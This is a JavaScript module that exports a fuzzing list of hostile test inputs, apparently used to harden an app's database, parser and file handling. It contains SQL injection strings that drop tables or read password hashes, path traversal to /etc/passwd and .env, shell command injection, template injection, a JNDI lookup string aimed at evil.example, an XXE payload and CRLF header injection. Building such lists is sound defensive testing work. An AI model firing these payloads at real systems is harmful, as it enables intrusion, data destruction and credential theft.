/** Texts that mean something to a database, a shell, a template, a parser or a file system. */
const SQL = [
  ...["'", '"', "`", "\\", "');", "'--", "'#", "'/*", "\\'", "%27", "' or '1'='1", "1 or 1=1"],
  ...['" or ""="', "') or ('1'='1", "' or true--", "admin'--", "' union select null--"],
  "' union select name, sql from sqlite_master--",
  "x' union select id, password from account--",
  ...["' union select usename, passwd from pg_shadow--", "1 union all select 2"],
  ...["1; delete from orders", "'; drop table products;--", "'; drop table products cascade; --"],
  ...["' order by 99--", '\'; update "user" set disabled = 0; --'],
  ...["'; insert into session values ('a'); --", "'; attach database 'x.db' as x; --"],
  ...["'; pragma writable_schema=1; --", "'; vacuum; --", "' || (select 1/0) || '"],
  ...["' || pg_sleep(9) || '", "' and 1=cast(version() as int)--"],
  ...["' and 1=like('ABC',upper(hex(randomblob(90000000))))--", "' group by 1 having 1=1--", "$1"],
  ...["$$x$$", "?", ":id", "%", "_", "like '%'", "' escape '\\", "e'\\x27'", "U&'\\0027'"],
  ...["copy (select 1) to program 'id'", "load_extension('x')", "x'27'", "char(39)", "null"],
];
const OBJECTS = [
  ...["{}", "[]", "[[]]", '{"$ne": null}', '{"$where": "1"}', "[$ne]", '{"id":{"$ne":1}}', '"'],
  ...['{"a":', "__proto__", "constructor", "toString", "then", "length", "true", "undefined"],
  ...["[1,2", "{'a':1}", '{"__proto__":{"isAdmin":true}}', "[object Object]"],
  '{"cartId":1,"items":[]}',
];
const NUMBERS = [
  ...["-1", "-0", "0", "1e3", "1e999", "NaN", "-Infinity", "0x10", "0b1", "1_000", "1n", "1/0"],
  ...["--1", "9007199254740993", "2147483648", "9223372036854775808", "99999999999999999999"],
  ...["1.5", "1,5", ".5", "5.", "+1", " 1 ", "1 2", "١٢", "１", "½", "00000000000000000001"],
];
const PATHS = [
  ...["..", "../../../../etc/passwd", "..\\..\\secret", "..%2f..%2fsecret", "%252e%252e%252f"],
  ...["/etc/passwd", "C:\\windows\\win.ini", "file:///etc/passwd", "//evil.example", "~root"],
  ...[".env", "koshk.sqlite", "smokes_images/../../secret", "x\u0000.webp", "/dev/null", "CON"],
];
const COMMANDS = [
  ...["; id", "| id", "&& id", "`id`", "$(id)", "\n id", "$HOME", "-rf", "--help"],
  ...["*)(uid=*))(|(uid=*", "{{7*7}}", "\u0024{7*7}", "#{7*7}", "<%= 7*7 %>", "*{7*7}"],
  "\u0024{jndi:ldap://evil.example/a}",
  ...['<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', "<![CDATA[x]]>"],
  ...["@SUM(1+1)", "%s%n", "%00", "%0d%0aSet-Cookie: a=b", "\r\nSet-Cookie: a=b", "\r\n\r\n<html>"],
  ...['=cmd|"/c calc"!A1', "=HYPERLINK(1)", "(?=a)*", "(a+)+$", "[", "(", "*", "\\d"],
];
const LETTERS = [
  ...["\u0000", "a\u0000b", "\u0001", "\u001b[2J", "\u007f", "\u0085", "\u00a0", "\u00ad"],
  ...["\u200b", "\u2028", "\u202e", "\u2066", "\ufeff", "\ufffd", "\uffff", "\ud800", "\udfff"],
  ...["\u{1f600}", "\u0130", "\ufb01", "\u0149", "Ａ", "＇", "%c0%ae", "%ff", "a\u0300".repeat(40)],
  ...["ﷺ".repeat(30), "x".repeat(5000), " ", "\t", "\n", "\u3000", "\u180e"],
];

export const INJECTIONS = [...SQL, ...OBJECTS, ...NUMBERS, ...PATHS, ...COMMANDS, ...LETTERS];
